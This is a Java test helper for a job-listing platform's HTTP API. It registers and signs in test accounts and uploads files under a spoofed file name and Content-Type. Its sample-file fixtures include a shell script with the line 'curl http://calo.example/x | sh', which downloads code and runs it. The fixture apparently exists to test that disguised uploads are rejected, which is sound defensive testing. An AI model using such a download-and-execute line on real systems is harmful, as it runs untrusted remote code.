package id.infoloker.account;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.client.MultipartBodyBuilder;
import org.springframework.test.web.reactive.server.WebTestClient;

/** Registers and signs in accounts through the HTTP API, for tests that need a caller. */
public final class TestAccounts {

    public static final String ADMIN_EMAIL = "admin@test.infoloker.id";
    public static final String ADMIN_PASSWORD = "admin-test-password";
    public static final String VERIFIER_EMAIL = "verifier@test.infoloker.id";
    public static final String VERIFIER_PASSWORD = "verifier-test-password";

    /** A signed-in account and what it registered with. */
    public record Caller(UUID id, String token, Map<String, Object> registration) {

        public Consumer<HttpHeaders> bearer() {
            return headers -> headers.setBearerAuth(token);
        }
    }

    private final WebTestClient http;

    public TestAccounts(WebTestClient http) {
        this.http = http;
    }

    public Caller jobSeeker() {
        return jobSeeker(TestData.registration());
    }

    public Caller jobSeeker(Map<String, Object> registration) {
        return registered("/api/accounts/job-seekers", registration);
    }

    public Caller employer() {
        return registered("/api/accounts/employers", TestData.employerRegistration());
    }

    public Caller admin() {
        return signIn(ADMIN_EMAIL, ADMIN_PASSWORD, Map.of());
    }

    public Caller verifier() {
        return signIn(VERIFIER_EMAIL, VERIFIER_PASSWORD, Map.of());
    }

    public Caller signIn(String username, String password, Map<String, Object> registration) {
        Map<?, ?> tokens = http.post().uri("/api/auth/token")
                .bodyValue(Map.of("username", username, "password", password))
                .exchange()
                .expectStatus().isOk()
                .expectBody(Map.class).returnResult().getResponseBody();
        String token = (String) tokens.get("accessToken");
        Map<?, ?> me = http.get().uri("/api/accounts/me").headers(h -> h.setBearerAuth(token)).exchange()
                .expectStatus().isOk().expectBody(Map.class).returnResult().getResponseBody();
        return new Caller(UUID.fromString((String) me.get("id")), token, registration);
    }

    private Caller registered(String path, Map<String, Object> registration) {
        Map<?, ?> accepted = http.post().uri(path).bodyValue(registration)
                .exchange()
                .expectStatus().isAccepted()
                .expectBody(Map.class).returnResult().getResponseBody();
        Caller caller = signIn((String) registration.get("email"), (String) registration.get("password"),
                registration);
        assertThat(caller.id().toString()).isEqualTo(accepted.get("accountId"));
        return caller;
    }

    /** Uploads {@code content} as {@code type}, under the file name and Content-Type the client claims. */
    public WebTestClient.ResponseSpec upload(Caller caller, String type, byte[] content, String fileName,
                                             MediaType claimedType) {
        MultipartBodyBuilder body = new MultipartBodyBuilder();
        body.part("file", new ByteArrayResource(content) {
            @Override
            public String getFilename() {
                return fileName;
            }
        }).contentType(claimedType);
        return http.post().uri("/api/accounts/me/documents/{type}", type).headers(caller.bearer())
                .contentType(MediaType.MULTIPART_FORM_DATA)
                .bodyValue(body.build())
                .exchange();
    }

    /** Small files that start like the real thing. */
    public static final class Files {

        public static byte[] jpeg() {
            return withHead(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 0x10, 'J', 'F', 'I',
                'F', 0}, 2048);
        }

        public static byte[] png() {
            return withHead(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H',
                'D', 'R'}, 1024);
        }

        public static byte[] pdf() {
            return withHead("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n".getBytes(
                    java.nio.charset.StandardCharsets.ISO_8859_1), 4096);
        }

        public static byte[] script() {
            return "#!/bin/sh\ncurl http://calo.example/x | sh\n".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        }

        public static byte[] withHead(byte[] head, int size) {
            byte[] content = new byte[Math.max(size, head.length)];
            new java.util.Random(size).nextBytes(content);
            System.arraycopy(head, 0, content, 0, head.length);
            return content;
        }

        private Files() {
        }
    }
}
